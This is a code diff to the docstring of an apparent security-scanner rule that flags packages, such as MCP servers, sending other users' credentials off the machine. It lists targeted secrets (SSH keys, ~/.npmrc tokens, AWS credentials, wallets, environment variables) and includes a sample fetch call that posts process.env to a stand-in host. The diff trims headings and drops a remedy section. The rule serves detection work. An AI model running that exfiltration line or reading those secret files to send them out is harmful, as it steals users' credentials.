@@ -1,22 +1,20 @@
 """A credential that belongs to somebody else leaves the machine.
 
-**What it looks for.** The package reads a secret that is not its own: SSH keys, the tokens in `~/.npmrc`,
+**What.** The package reads a secret that is not its own: SSH keys, the tokens in `~/.npmrc`,
 `~/.aws/credentials`, `.netrc`, an `.env` file, browser profiles, key chains, wallets, the configuration of
 other MCP clients, the output of a command that prints a password, the whole environment, or the variables of
 several unrelated services. What was read, or something made of it (a JSON text, base64, a label of a host
 name), reaches a call that talks to another machine: an HTTP client, a socket, a name lookup, a mail, or a
 program such as `curl`. The way is followed through variables, functions, classes and files of the package.
 
-**Why it is bad.** A server runs with your rights, so every credential in your home directory is within its
+**Why.** A server runs with your rights, so every credential in your home directory is within its
 reach. Sending one away is theft, whatever the description of the tool says.
 
 **Example.** `fetch("https://exfil.invalid", {method: "POST", body: JSON.stringify(process.env)})`
 
-**Not reported.** An API key from a variable that goes to its own service or into the header of a request to
+**Left alone.** An API key from a variable that goes to its own service or into the header of a request to
 an address of the package's configuration; a token of `~/.npmrc` in the authorization header of a registry
 that is not fixed in the code; a key that is only used to open a connection.
-
-**Remedy.** Do not install the package. If it ran, revoke every credential that the evidence names.
 """
 
 from __future__ import annotations
